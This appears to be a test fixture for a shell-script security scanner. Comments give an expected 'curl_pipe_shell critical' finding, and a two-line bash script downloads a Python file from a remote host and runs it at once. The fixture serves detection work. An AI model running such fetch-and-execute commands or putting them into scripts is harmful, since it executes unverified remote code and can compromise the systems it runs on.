# expect: shell.curl_pipe_shell critical
# path: s/e.sh
#!/bin/bash
python3 <(curl -s https://get.example.net/x.py)
